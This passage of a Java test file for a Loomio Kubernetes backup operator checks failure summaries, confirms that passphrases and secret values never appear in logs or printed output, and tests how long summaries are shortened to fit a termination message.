    assertThat(u.summary().path("backup").asText()).isEqualTo("team-20250105T030000Z");
    assertThat(u.summary().path("error").asText()).contains("no-such-bucket");
    assertThat(dump).doesNotExist();
    assertEmpty(scratch);
    assertThat(new DirectoryDestination(backups, STACK).list()).allMatch(l -> !l.complete());
    assertThat(u.line()).doesNotContain(PASSPHRASE, S3Server.SECRET_KEY);
  }

  @Test
  void noSecretValueOrPassphraseIsEverLoggedOrPrinted() throws Exception {
    Logger logger = (Logger) LoggerFactory.getLogger("org.loomio.operator.backup");
    Level level = logger.getLevel();
    ListAppender<ILoggingEvent> appender = new ListAppender<>();
    appender.start();
    logger.addAppender(appender);
    logger.setLevel(Level.DEBUG);
    try {
      Run b =
          backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT));
      assertThat(b.code()).isZero();
      client
          .secrets()
          .inNamespace("loomio")
          .resource(new SecretBuilder()
              .withNewMetadata()
              .withName("team-credentials")
              .endMetadata()
              .build())
          .create();
      Run r = restore(
          restoreOptions("latest", true, tmp.resolve("db.out"), null, List.of("SECRET_KEY_BASE")));
      assertThat(r.code()).as(r.line()).isZero();
      List<String> printed = new ArrayList<>(List.of(b.line(), r.line()));
      appender.list.forEach(e -> printed.add(e.getFormattedMessage()));
      assertThat(appender.list).isNotEmpty();
      for (String text : printed) {
        assertThat(text).doesNotContain(PASSPHRASE, S3Server.SECRET_KEY);
        for (byte[] value : AgentFixtures.SECRETS.values()) {
          assertThat(text).doesNotContain(new String(value, StandardCharsets.UTF_8), b64(value));
        }
      }
    } finally {
      logger.detachAppender(appender);
      logger.setLevel(level);
    }
  }

  @Test
  void theSummaryIsShortenedToFitATerminationMessage() {
    var node = Summary.object();
    node.put("backup", "team-20250105T020000Z");
    node.put("complete", true);
    var pruned = node.putArray("pruned");
    for (int i = 0; i < 500; i++) {
      pruned.add("team-2024" + String.format("%04d", i) + "T020000Z");
    }
    String line = Summary.fit(node, List.of("pruned"));
    assertThat(line.getBytes(StandardCharsets.UTF_8).length).isLessThan(Summary.LIMIT);
    assertThat(node.path("prunedOmitted").asInt()).isPositive();
    assertThat(node.path("pruned").size() + node.path("prunedOmitted").asInt()).isEqualTo(500);

    var failed = Summary.object();
    failed.put("error", "x".repeat(10_000));
    assertThat(Summary.fit(failed, List.of()).length()).isLessThan(Summary.LIMIT);
  }
}
